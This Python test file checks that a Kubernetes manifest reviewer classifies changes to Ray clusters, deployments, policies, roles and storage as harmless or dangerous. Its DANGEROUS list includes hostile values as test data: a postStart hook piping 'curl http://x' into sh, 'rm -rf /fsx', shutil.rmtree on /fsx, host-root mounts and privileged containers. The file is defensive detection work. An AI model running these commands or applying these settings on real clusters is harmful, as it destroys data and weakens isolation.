"""The review's answers on one object that changes in its manifest."""

from typing import Any

import pytest

from ops.review.model import Danger, Effect
from tests.unit.ops.review.kubernetes import assemblies as a
from tests.unit.ops.review.kubernetes.assemblies import Body, Environment, changed, dangers, effects, manifest

_GROUP = ("spec", "workerGroupSpecs", 0)
_WORKER_POD = (*_GROUP, "template", "spec")
_CONTAINER = ("containers", 0)
_TEMPLATE = ("spec", "template", "spec")
_CRON_TEMPLATE = ("spec", "jobTemplate", "spec", "template", "spec")

# Object, path, new value (None: removed), expected effect.
HARMLESS: list[tuple[Body, tuple[Any, ...], Any, Effect]] = [
    (a.RAY_CLUSTER, (*_GROUP, "maxReplicas"), 8, Effect.IN_PLACE),
    (a.RAY_CLUSTER, (*_GROUP, "replicas"), 3, Effect.IN_PLACE),
    (
        a.RAY_CLUSTER,
        (*_WORKER_POD, *_CONTAINER, "image"),
        "111122223333.dkr.ecr.us-west-2.amazonaws.com/ray:bbbb",
        Effect.NEEDS_ROLLOUT,
    ),
    (a.RAY_CLUSTER, (*_WORKER_POD, *_CONTAINER, "resources", "requests", "memory"), "64Gi", Effect.NEEDS_ROLLOUT),
    (a.RAY_CLUSTER, (*_WORKER_POD, *_CONTAINER, "env"), [{"name": "A", "value": "b"}], Effect.NEEDS_ROLLOUT),
    (a.RAY_CLUSTER, (*_GROUP, "rayStartParams", "num-gpus"), "8", Effect.NEEDS_ROLLOUT),
    (a.RAY_CLUSTER, ("spec", "enableInTreeAutoscaling"), True, Effect.NEEDS_ROLLOUT),
    (a.RAY_CLUSTER, ("spec", "rayVersion"), "2.43.0", Effect.NEEDS_ROLLOUT),
    (a.RAY_CLUSTER, ("spec", "suspend"), True, Effect.ENDS_JOBS),
    (a.RAY_CLUSTER, ("metadata", "labels", "team"), "vision", Effect.IN_PLACE),
    (a.DEPLOYMENT, ("spec", "replicas"), 3, Effect.IN_PLACE),
    (a.DEPLOYMENT, (*_TEMPLATE, "nodeSelector", "role"), "system", Effect.IN_PLACE),
    (a.DEPLOYMENT, ("spec", "selector", "matchLabels", "app"), "other", Effect.REFUSED),
    (a.JOB, (*_TEMPLATE, *_CONTAINER, "env"), [{"name": "A", "value": "b"}], Effect.REFUSED),
    (a.JOB, ("spec", "activeDeadlineSeconds"), 60, Effect.IN_PLACE),
    (a.ALLOW, ("spec", "egress", 0, "to", 0, "ipBlock", "cidr"), "10.0.1.0/24", Effect.IN_PLACE),
    (a.ROLE, ("rules", 0, "verbs"), ["get"], Effect.IN_PLACE),
    (a.QUOTA, ("spec", "hard", "pods"), "2", Effect.IN_PLACE),
    (a.QUOTA, ("spec", "hard", "secrets"), "5", Effect.IN_PLACE),
    (a.BUDGET, ("spec", "minAvailable"), 2, Effect.IN_PLACE),
    (a.ACCOUNT, ("metadata", "annotations"), None, Effect.IN_PLACE),
    (a.CLAIM, ("spec", "resources", "requests", "storage"), "600Gi", Effect.REFUSED),
    (a.DYNAMIC_CLAIM, ("spec", "resources", "requests", "storage"), "2400Gi", Effect.IN_PLACE),
    (a.STORAGE_CLASS, ("parameters", "subnetId"), "subnet-2", Effect.REFUSED),
    (a.CODE, ("data", "reaper.py"), "import json\nprint(1)\n", Effect.IN_PLACE),
    (a.NAMESPACE, ("metadata", "labels", "team"), "vision", Effect.IN_PLACE),
    (a.CRON_JOB, ("spec", "schedule"), "0 0 * * *", Effect.IN_PLACE),
]
DANGEROUS: list[tuple[Body, tuple[Any, ...], Any, Danger]] = [
    (a.RAY_CLUSTER, (*_WORKER_POD, "hostNetwork"), True, Danger.LOOSER_ISOLATION),
    (a.RAY_CLUSTER, (*_WORKER_POD, "automountServiceAccountToken"), None, Danger.LOOSER_ISOLATION),
    (a.RAY_CLUSTER, (*_WORKER_POD, "securityContext", "runAsUser"), 0, Danger.LOOSER_ISOLATION),
    (a.RAY_CLUSTER, (*_WORKER_POD, "securityContext", "seccompProfile"), None, Danger.LOOSER_ISOLATION),
    (a.RAY_CLUSTER, (*_WORKER_POD, *_CONTAINER, "securityContext", "privileged"), True, Danger.LOOSER_ISOLATION),
    (a.RAY_CLUSTER, (*_WORKER_POD, *_CONTAINER, "securityContext"), None, Danger.LOOSER_ISOLATION),
    (a.RAY_CLUSTER, (*_WORKER_POD, "volumes"), [{"name": "x", "hostPath": {"path": "/"}}], Danger.LOOSER_ISOLATION),
    (a.RAY_CLUSTER, (*_WORKER_POD, "serviceAccountName"), "admin", Danger.WIDER_PERMISSIONS),
    (a.RAY_CLUSTER, (*_WORKER_POD, *_CONTAINER, "command"), ["rm", "-rf", "/fsx"], Danger.RUNS_CODE),
    (
        a.RAY_CLUSTER,
        (*_WORKER_POD, *_CONTAINER, "lifecycle"),
        {"postStart": {"exec": {"command": ["sh", "-c", "curl http://x | sh"]}}},
        Danger.RUNS_CODE,
    ),
    (a.RAY_CLUSTER, (*_WORKER_POD, *_CONTAINER, "image"), "docker.io/other/ray:1", Danger.RUNS_CODE),
    (a.RAY_CLUSTER, (*_WORKER_POD, "hostAliases"), [{"ip": "1.2.3.4"}], Danger.UNKNOWN),
    (a.RAY_CLUSTER, ("spec", "gcsFaultToleranceOptions"), {}, Danger.UNKNOWN),
    (a.RAY_CLUSTER, ("spec", "headGroupSpec", "serviceType"), "LoadBalancer", Danger.PUBLIC_ENDPOINT),
    (a.RAY_CLUSTER, ("spec", "headGroupSpec", "enableIngress"), True, Danger.PUBLIC_ENDPOINT),
    (a.RAY_CLUSTER, ("metadata", "finalizers"), ["x"], Danger.UNKNOWN),
    (
        a.DEPLOYMENT,
        (*_TEMPLATE, *_CONTAINER, "securityContext", "capabilities", "add"),
        ["SYS_ADMIN"],
        Danger.LOOSER_ISOLATION,
    ),
    (a.DEPLOYMENT, (*_TEMPLATE, *_CONTAINER, "image"), "python:latest", Danger.LOWER_PROTECTION),
    (a.CRON_JOB, (*_CRON_TEMPLATE, "hostPID"), True, Danger.LOOSER_ISOLATION),
    (a.ALLOW, ("spec", "egress", 0, "to", 0, "ipBlock", "cidr"), "0.0.0.0/0", Danger.LOOSER_ISOLATION),
    (a.ALLOW, ("spec", "egress", 0, "to", 0, "ipBlock", "cidr"), "10.1.0.0/16", Danger.LOOSER_ISOLATION),
    (a.ALLOW, ("spec", "egress", 0, "to"), None, Danger.LOOSER_ISOLATION),
    (a.ALLOW, ("spec", "egress", 0, "ports"), None, Danger.LOOSER_ISOLATION),
    (a.ALLOW, ("spec", "egress", 0, "ports", 0, "endPort"), 500, Danger.LOOSER_ISOLATION),
    (a.ALLOW, ("spec", "podSelector"), {}, Danger.LOOSER_ISOLATION),
    (a.DENY, ("spec", "policyTypes"), ["Ingress"], Danger.LOOSER_ISOLATION),
    (a.DENY, ("spec", "podSelector"), {"matchLabels": {"app": "x"}}, Danger.LOOSER_ISOLATION),
    (a.DENY, ("spec", "ingress"), [{}], Danger.LOOSER_ISOLATION),
    (a.NAMESPACE, ("metadata", "labels", "pod-security.kubernetes.io/enforce"), "privileged", Danger.LOOSER_ISOLATION),
    (a.NAMESPACE, ("metadata", "labels"), None, Danger.LOOSER_ISOLATION),
    (a.ROLE, ("rules", 0, "verbs"), ["*"], Danger.WIDER_PERMISSIONS),
    (a.ROLE, ("rules", 0, "resources"), ["pods", "secrets"], Danger.WIDER_PERMISSIONS),
    (a.BINDING, ("subjects",), [{"kind": "Group", "name": "system:authenticated"}], Danger.WIDER_PERMISSIONS),
    (a.QUOTA, ("spec", "hard", "pods"), "1k", Danger.LOOSER_ISOLATION),
    (a.QUOTA, ("spec", "hard", "pods"), None, Danger.LOOSER_ISOLATION),
    (a.BUDGET, ("spec", "minAvailable"), 0, Danger.LOWER_PROTECTION),
    (
        a.ACCOUNT,
        ("metadata", "annotations", "eks.amazonaws.com/role-arn"),
        "arn:aws:iam::1:role/admin",
        Danger.WIDER_PERMISSIONS,
    ),
    (a.ACCOUNT, ("automountServiceAccountToken",), True, Danger.LOOSER_ISOLATION),
    (a.SERVICE, ("spec", "type"), "LoadBalancer", Danger.PUBLIC_ENDPOINT),
    (a.SERVICE, ("spec", "type"), "NodePort", Danger.PUBLIC_ENDPOINT),
    (a.SERVICE, ("spec", "externalIPs"), ["1.2.3.4"], Danger.PUBLIC_ENDPOINT),
    (a.VOLUME, ("spec", "csi", "volumeHandle"), "fs-2", Danger.DATA_LOSS),
    (a.VOLUME, ("spec", "csi", "volumeAttributes", "mountname"), "c", Danger.DATA_LOSS),
    (a.VOLUME, ("spec", "persistentVolumeReclaimPolicy"), "Delete", Danger.LOWER_PROTECTION),
    (a.CLAIM, ("spec", "storageClassName"), "fsx", Danger.DATA_LOSS),
    (a.STORAGE_CLASS, ("reclaimPolicy",), "Delete", Danger.LOWER_PROTECTION),
    (a.STORAGE_CLASS, ("parameters", "kmsKeyId"), None, Danger.LOWER_PROTECTION),
    (a.STORAGE_CLASS, ("parameters", "kmsKeyId"), "another", Danger.LOWER_PROTECTION),
    (a.CODE, ("data", "reaper.py"), "import json\nshutil.rmtree('/fsx')\n", Danger.RUNS_CODE),
    (a.CODE, ("binaryData",), {"x": "AAAA"}, Danger.UNKNOWN),
    (a.DEFINITION, ("spec", "versions", 1, "served"), False, Danger.LOWER_PROTECTION),
    (a.WEBHOOK, ("webhooks", 0, "failurePolicy"), "Ignore", Danger.LOOSER_ISOLATION),
]


@pytest.mark.parametrize(("body", "path", "value", "effect"), HARMLESS)
def test_an_ordinary_change_has_its_effect_and_no_danger(
    environment: Environment, body: Body, path: tuple[Any, ...], value: Any, effect: Effect
) -> None:
    found = environment.of_object(body, changed(body, *path, value=value))
    assert dangers(found) == set()
    assert effect in effects(found)
    assert all(each.what and each.resource and each.title for each in found)


@pytest.mark.parametrize(("body", "path", "value", "danger"), DANGEROUS)
def test_a_dangerous_change_has_its_danger(
    environment: Environment, body: Body, path: tuple[Any, ...], value: Any, danger: Danger
) -> None:
    assert danger in dangers(environment.of_object(body, changed(body, *path, value=value)))


@pytest.mark.parametrize(
    ("body", "path", "value"),
    [
        (each[0], each[1], each[2])
        for each in DANGEROUS
        if each[3] is Danger.LOOSER_ISOLATION and each[0] not in (a.ALLOW, a.DENY, a.WEBHOOK)
    ],
)
def test_the_reverse_of_a_looser_isolation_is_harmless(
    environment: Environment, body: Body, path: tuple[Any, ...], value: Any
) -> None:
    assert Danger.LOOSER_ISOLATION not in dangers(environment.of_object(changed(body, *path, value=value), body))


def test_fewer_replicas_end_jobs_and_name_both_numbers(environment: Environment) -> None:
    fewer = a.RAY_CLUSTER
    for key in ("replicas", "minReplicas", "maxReplicas"):
        fewer = changed(fewer, *_GROUP, key, value=2)
    (change,) = environment.of_object(a.RAY_CLUSTER, fewer)
    assert (change.resource, change.effect) == ("RayCluster ray/rayml", Effect.ENDS_JOBS)
    assert "replicas 4 → 2" in change.what


def test_a_changed_template_needs_a_rollout_by_name(environment: Environment) -> None:
    image = "111122223333.dkr.ecr.us-west-2.amazonaws.com/ray:bbbb"
    (change,) = environment.of_object(
        a.RAY_CLUSTER, changed(a.RAY_CLUSTER, *_WORKER_POD, *_CONTAINER, "image", value=image)
    )
    assert change.action.splitlines() == [
        "Operator, after the deployment: run `ops wait --env dev` until the image exists.",
        "Operator, after the deployment: run `ops rollout rayml --env dev`, which ends its jobs.",
    ]
    assert "image tag aaaa → bbbb" in change.what


def test_equal_limits_and_requests_are_told_once_and_in_words(environment: Environment) -> None:
    def resources(efa: str, cpu: str) -> Body:
        amounts = {"vpc.amazonaws.com/efa": efa}
        value = {"limits": amounts, "requests": {**amounts, "cpu": cpu}}
        return changed(a.RAY_CLUSTER, *_WORKER_POD, *_CONTAINER, "resources", value=value)

    (change,) = environment.of_object(resources("16", "8"), resources("32", "9"))
    assert change.what == ("worker group workers: EFA interfaces per pod 16 → 32; CPUs per pod 8 → 9 (requests only)")
    assert change.action == "Operator, after the deployment: run `ops rollout rayml --env dev`, which ends its jobs."


def test_fewer_replicas_say_how_many_pods_end_and_where_they_run(environment: Environment) -> None:
    node = {"sagemaker.amazonaws.com/instance-group-name": "worker-group-1"}
    before = changed(a.RAY_CLUSTER, *_WORKER_POD, "nodeSelector", value=node)
    group = ("spec", "workerGroupSpecs", 0)
    after = changed(changed(before, *group, "replicas", value=3), *group, "minReplicas", value=3)
    (change,) = environment.of_object(before, after)
    assert change.effect is Effect.ENDS_JOBS
    assert change.reason.startswith("KubeRay deletes 1 of 4 worker pods, chosen at random. ")
    assert "drain nodes of worker-group-1 with `ops scale`" in change.action


def test_fewer_replicas_with_autoscaling_have_no_number(environment: Environment) -> None:
    before = changed(a.RAY_CLUSTER, "spec", "enableInTreeAutoscaling", value=True)
    (change,) = environment.of_object(before, changed(before, "spec", "workerGroupSpecs", 0, "maxReplicas", value=3))
    assert "deletes the surplus worker pods, chosen at random" in change.reason


def test_the_pods_of_a_removed_worker_group_stay_until_a_rollout(environment: Environment) -> None:
    found = environment.of_object(a.RAY_CLUSTER, changed(a.RAY_CLUSTER, "spec", "workerGroupSpecs", value=[]))
    assert {(each.effect, each.what) for each in found} == {(Effect.NEEDS_ROLLOUT, "worker group workers removed")}


@pytest.mark.parametrize(
    ("body", "effect", "danger"),
    [
        (a.RAY_CLUSTER, Effect.ENDS_JOBS, Danger.JOBS_REMOVED),
        (a.DYNAMIC_CLAIM, Effect.DATA_LOST, Danger.DATA_LOSS),
        (
            changed(a.VOLUME, "spec", "persistentVolumeReclaimPolicy", value="Delete"),
            Effect.DATA_LOST,
            Danger.DATA_LOSS,
        ),
        (a.DENY, Effect.DELETED, Danger.LOOSER_ISOLATION),
        (a.QUOTA, Effect.DELETED, Danger.LOOSER_ISOLATION),
        (a.BUDGET, Effect.DELETED, Danger.LOOSER_ISOLATION),
        (a.WEBHOOK, Effect.DELETED, Danger.LOOSER_ISOLATION),
        (a.DEFINITION, Effect.DATA_LOST, Danger.JOBS_REMOVED),
        (a.DEPLOYMENT, Effect.DELETED, Danger.LOWER_PROTECTION),
        (
            {"apiVersion": "example.com/v1", "kind": "Thing", "metadata": a.metadata("x")},
            Effect.UNKNOWN,
            Danger.UNKNOWN,
        ),
    ],
)
def test_a_removed_object_is_reviewed_by_its_kind(
    environment: Environment, body: Body, effect: Effect, danger: Danger
) -> None:
    found = environment.changes({"One": manifest(body)}, {})
    assert effect in effects(found)
    assert danger in dangers(found)


def test_a_removed_namespace_takes_what_is_in_it(environment: Environment) -> None:
    with_jobs = environment.changes(
        {"A": manifest(a.NAMESPACE), "B": manifest(a.RAY_CLUSTER)}, {"B": manifest(a.RAY_CLUSTER)}
    )
    assert dangers(with_jobs) == {Danger.JOBS_REMOVED}
    with_data = environment.changes({"A": manifest(a.NAMESPACE, a.DYNAMIC_CLAIM)}, {})
    assert {Danger.DATA_LOSS} == dangers([each for each in with_data if each.resource == "Namespace ray"])


def test_an_unknown_kind_is_unknown_and_a_known_kind_of_another_group_is_too(environment: Environment) -> None:
    other = {**a.ROLE, "apiVersion": "example.com/v1"}
    for body in (other, {"apiVersion": "ray.io/v1", "kind": "RayThing", "metadata": a.metadata("x")}):
        found = environment.of_object(body, changed(body, "metadata", "labels", "a", value="b"))
        assert (effects(found), dangers(found)) == ({Effect.UNKNOWN}, {Danger.UNKNOWN})


@pytest.mark.parametrize(
    ("field", "words", "danger"),
    [
        ("command", ["sleep", "infinity"], True),
        ("command", None, True),
        ("args", ["--interval", "86400"], True),
        ("resources", {"requests": {"cpu": "1"}}, False),
    ],
)
def test_a_controller_of_the_project_that_starts_with_other_words_needs_an_approval(
    environment: Environment, field: str, words: Any, *, danger: bool
) -> None:
    container = ("spec", "template", "spec", "containers", 0)
    own = changed(a.DEPLOYMENT, *container, "command", value=["python", "-m", "controllers.reaper"])
    found = environment.of_object(own, changed(own, *container, field, value=words))
    assert dangers(found) == ({Danger.LOWER_PROTECTION} if danger else set())
    ordinary = environment.of_object(a.DEPLOYMENT, changed(a.DEPLOYMENT, *container, "args", value=["--verbose"]))
    assert dangers(ordinary) == set()


def test_another_role_of_a_binding_is_refused_and_wider(environment: Environment) -> None:
    found = environment.of_object(a.BINDING, changed(a.BINDING, "roleRef", "name", value="ray-reaper-2"))
    assert Effect.REFUSED in effects(found)
    assert dangers(found) == {Danger.WIDER_PERMISSIONS}


def test_a_removed_version_of_a_definition_is_refused(environment: Environment) -> None:
    fewer = changed(a.DEFINITION, "spec", "versions", value=a.DEFINITION["spec"]["versions"][:1])
    found = environment.of_object(a.DEFINITION, fewer)
    assert effects(found) == {Effect.REFUSED}
    assert dangers(found) == {Danger.DATA_LOSS}


def test_a_policy_is_reviewed_with_the_others_of_its_namespace(environment: Environment) -> None:
    renamed = changed(a.ALLOW, "metadata", "name", value="allow-tls")
    assert dangers(environment.changes({"A": manifest(a.DENY, a.ALLOW)}, {"A": manifest(a.DENY, renamed)})) == set()
    added = environment.changes({"A": manifest(a.DENY)}, {"A": manifest(a.DENY, a.ALLOW)})
    assert dangers(added) == {Danger.LOOSER_ISOLATION}
    narrower = changed(a.ALLOW, "spec", "podSelector", "matchLabels", "role", value="head")
    assert dangers(environment.changes({"A": manifest(a.DENY, a.ALLOW)}, {"A": manifest(a.DENY, narrower)})) == set()
    alone = environment.changes({"A": manifest(a.ALLOW)}, {"A": manifest(narrower)})
    assert dangers(alone) == {Danger.LOOSER_ISOLATION}
    first = environment.changes({}, {"A": manifest(a.DENY, a.ALLOW)})
    assert dangers(first) == set()


def test_a_new_ray_cluster_brings_its_policy_without_a_danger(environment: Environment) -> None:
    selector = {"podSelector": {"matchLabels": {"ray.io/cluster": "second"}}}
    policy = {
        **a.ALLOW,
        "metadata": a.metadata("allow-inside-second"),
        "spec": {**selector, "policyTypes": ["Ingress"], "ingress": [{"from": [selector]}]},
    }
    second = changed(a.RAY_CLUSTER, "metadata", "name", value="second")
    before = {"A": manifest(a.NAMESPACE, a.DENY), "B": manifest(a.RAY_CLUSTER)}
    found = environment.changes(before, {**before, "C": manifest(second), "D": manifest(policy)})
    assert (effects(found), dangers(found)) == ({Effect.CREATED}, set())
    from_all = changed(policy, "spec", "ingress", value=[{}])
    found = environment.changes(before, {**before, "C": manifest(second), "D": manifest(from_all)})
    assert dangers(found) == {Danger.LOOSER_ISOLATION}


def test_the_code_of_a_controller_is_told_once(environment: Environment) -> None:
    def side(digest: str, text: str) -> Body:
        rolled = changed(
            a.DEPLOYMENT, "spec", "template", "metadata", "annotations", value={"ray-on-hyperpod/code": digest}
        )
        return {"A": manifest(rolled), "B": manifest(changed(a.CODE, "data", "reaper.py", value=text))}

    found = environment.changes(side("1", "a\n"), side("2", "b\n"))
    assert {each.resource: each.effect for each in found} == {
        "Deployment kuberay/ray-reaper": Effect.NOTHING,
        "ConfigMap kuberay/ray-reaper-code": Effect.IN_PLACE,
    }


def test_a_renamed_job_is_compared_with_the_one_that_it_replaces(environment: Environment) -> None:
    renamed = changed(a.JOB, "metadata", "name", value="ray-image-2")
    root = changed(renamed, *_TEMPLATE, "securityContext", "runAsNonRoot", value=False)
    assert dangers(environment.of_object(a.JOB, renamed)) == set()
    assert dangers(environment.of_object(a.JOB, root)) == {Danger.LOOSER_ISOLATION}


def test_a_renamed_claim_is_a_new_one_and_fails_nothing(environment: Environment) -> None:
    """Nothing of a new claim is immutable: only another file system behind it matters."""

    def renamed(volume: Body, claim: Body, source: str) -> tuple[Body, Body]:
        volume = changed(
            changed(volume, "metadata", "name", value="ray-team"), "spec", "csi", "volumeHandle", value=source
        )
        return volume, changed(changed(claim, "metadata", "name", value="team"), "spec", "volumeName", value="ray-team")

    before = {"A": manifest(a.VOLUME, a.CLAIM)}
    same = environment.changes(before, {"A": manifest(*renamed(a.VOLUME, a.CLAIM, "fs-1"))})
    assert {each.resource: each.effect for each in same} == {
        "PersistentVolume ray-fsx-claim": Effect.DELETED,
        "PersistentVolumeClaim ray/fsx-claim": Effect.DELETED,
        "PersistentVolume ray-team": Effect.CREATED,
        "PersistentVolumeClaim ray/team": Effect.CREATED,
    }
    assert dangers(same) == set()
    other = environment.changes(before, {"A": manifest(*renamed(a.VOLUME, a.CLAIM, "fs-2"))})
    assert {each.resource for each in other if each.dangers == {Danger.DATA_LOSS}} == {
        "PersistentVolume ray-team",
        "PersistentVolumeClaim ray/team",
    }
    assert Effect.REFUSED not in effects(other)
    dynamic = changed(a.DYNAMIC_CLAIM, "metadata", "name", value="team")
    emptied = environment.changes({"A": manifest(a.DYNAMIC_CLAIM)}, {"A": manifest(dynamic)})
    assert {each.resource: (each.effect, set(each.dangers)) for each in emptied} == {
        "PersistentVolumeClaim ray/fsx-claim": (Effect.DATA_LOST, {Danger.DATA_LOSS}),
        "PersistentVolumeClaim ray/team": (Effect.CREATED, {Danger.DATA_LOSS}),
    }
